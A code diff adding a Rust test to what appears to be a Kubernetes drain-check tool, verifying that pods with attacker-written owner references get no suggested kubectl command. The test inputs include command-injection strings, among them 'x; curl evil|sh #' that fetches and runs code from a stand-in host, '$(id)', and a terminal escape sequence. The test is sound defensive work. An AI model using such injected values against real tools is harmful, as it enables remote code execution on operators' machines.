@@ -71,6 +71,20 @@ fn a_cluster_whose_pods_can_all_leave_has_no_finding() {
     );
 }
 
+/// A user of a namespace writes the owner of a pod, and nothing checks it.
+#[test]
+fn an_owner_that_is_no_object_gets_no_command() {
+    for (kind, name) in [("x", "x; curl evil|sh #"), ("x;id", "web"), ("x", "web\u{1b}[2K\rkubectl"), ("$(id)", "web")]
+    {
+        let mut planted = pod("game-0", "game", "n-4", &json!({}));
+        planted.metadata.annotations = Some([("karpenter.sh/do-not-disrupt".to_owned(), "true".to_owned())].into());
+        let owner = &mut planted.metadata.owner_references.as_mut().unwrap()[0];
+        (owner.kind, owner.name) = (kind.to_owned(), name.to_owned());
+        let found = of(&[], &[planted]).findings;
+        assert_eq!((found[0].id, &found[0].command), ("do-not-disrupt", &None), "{kind} {name}");
+    }
+}
+
 #[test]
 fn each_thing_that_holds_a_drain_up_is_told_with_what_to_do() {
     let long = json!({"terminationGracePeriodSeconds": 600});
